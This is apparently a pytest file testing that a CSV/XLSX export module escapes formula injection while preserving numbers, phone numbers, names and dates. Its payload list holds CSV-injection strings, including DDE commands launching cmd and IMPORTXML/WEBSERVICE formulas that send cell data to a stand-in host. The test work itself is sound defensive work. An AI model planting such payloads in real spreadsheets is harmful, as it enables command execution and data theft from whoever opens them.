import csv
import datetime as dt
import io

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from people.sheets import FORMULA_SIGNS, INVISIBLE, Column, csv_file, safe_text, xlsx_file

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://malo.example","clic")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=DDE("cmd";"/C calc";"x")',
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200d\u2060=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=IMPORTXML(CONCAT("http://malo.example/?",A1),"//a")',
    '=WEBSERVICE("http://malo.example")',
    "+52=1",
    "-5-3",
    "--1",
    '="a"&"b"',
    "@@",
    "\t\r\n -=1",
    "=A1\n=B1",
    "\u3000=1+1",
]
HARMLESS = ["-5", "+7", "-3.5", "-12,5", "15%", "+52 33 1234 5678", "Núñez Güemes, María", "00123", "a=b", "", "5-3"]
COLUMNS = [Column("Nombre", lambda row: row[0]), Column("=Encabezado", lambda row: row[1])]


def bare_beginning(text):
    return text.lstrip(INVISIBLE + " \t\r\n\v\f\u00a0\u2007\u202f\u3000")[:1]


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def workbook(rows, **changes):
    options = {
        "title": "Informe",
        "columns": COLUMNS,
        "rows": rows,
        "criteria_title": "Criterios",
        "criteria": [("Búsqueda", "=1+1")],
        "author": "RH",
    }
    return openpyxl.load_workbook(io.BytesIO(xlsx_file(**options | changes)))


def test_there_are_thirty_payloads():
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_opens_a_formula_in_the_csv(payload):
    rows = read_csv(csv_file(COLUMNS, [(payload, payload)]))
    assert rows[0] == ["Nombre", "'=Encabezado"]
    for cell in rows[1]:
        assert cell == f"'{payload}"
        assert bare_beginning(cell) not in FORMULA_SIGNS


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_telephones_and_names_survive(text):
    assert safe_text(text) == text
    assert read_csv(csv_file(COLUMNS, [(text, text)]))[1] == [text, text]


def test_no_payload_becomes_a_formula_or_a_link_in_the_xlsx():
    rows = [(payload, payload) for payload in [*PAYLOADS, *HARMLESS, "http://malo.example", "mailto:a@b.mx"]]
    book = workbook(rows)
    for sheet in book:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
    kept = [row[0] for row in book["Informe"].iter_rows(min_row=2, values_only=True)]
    assert kept[0] == "=1+1"
    assert "00123" in kept
    assert "-5" in kept


@given(st.text(max_size=60))
def test_any_text_is_written_and_none_opens_a_formula(text):
    guarded = safe_text(text)
    assert guarded in (text, f"'{text}")
    (cell,) = read_csv(csv_file([COLUMNS[0]], [(text,)]))[1] or [""]
    assert cell.replace("\r\n", "\n").replace("\r", "\n") == guarded.replace("\r\n", "\n").replace("\r", "\n")


def test_dates_are_real_dates_and_numbers_are_numbers():
    moment = dt.datetime(2026, 11, 23, 2, 30, tzinfo=dt.UTC)
    columns = [Column("Día", lambda row: row[0]), Column("Hora", lambda row: row[1]), Column("N", lambda row: row[2])]
    rows = [(dt.date(2026, 3, 3), moment, 7)]
    day, hour, number = next(workbook(rows, columns=columns)["Informe"].iter_rows(min_row=2))
    assert day.is_date
    assert day.value == dt.datetime(2026, 3, 3)
    assert hour.is_date
    # 02:30 UTC is still the evening before in Mexico City.
    assert hour.value.date() == dt.date(2026, 11, 22)
    assert number.value == 7
    assert read_csv(csv_file(columns, rows))[1] == ["2026-03-03", "2026-11-22", "7"]


def test_the_heading_stays_and_filters():
    sheet = workbook([("a", "b")] * 3)["Informe"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B4"
    assert sheet.column_dimensions["A"].width > 10


def test_the_criteria_come_first():
    book = workbook([("a", "b")])
    assert book.sheetnames == ["Criterios", "Informe"]
    assert book["Criterios"]["A1"].value == "Informe"
    assert book["Criterios"]["B3"].value == "=1+1"
    assert book["Criterios"]["B3"].data_type == "s"


def test_characters_that_xml_cannot_carry_do_not_break_the_file():
    sheet = workbook([("a\x00b\x0bc\ud800", "x" * 40_000)])["Informe"]
    assert sheet["A2"].value == "a\ufffdb\ufffdc\ufffd"
    assert len(sheet["B2"].value) == 32_000
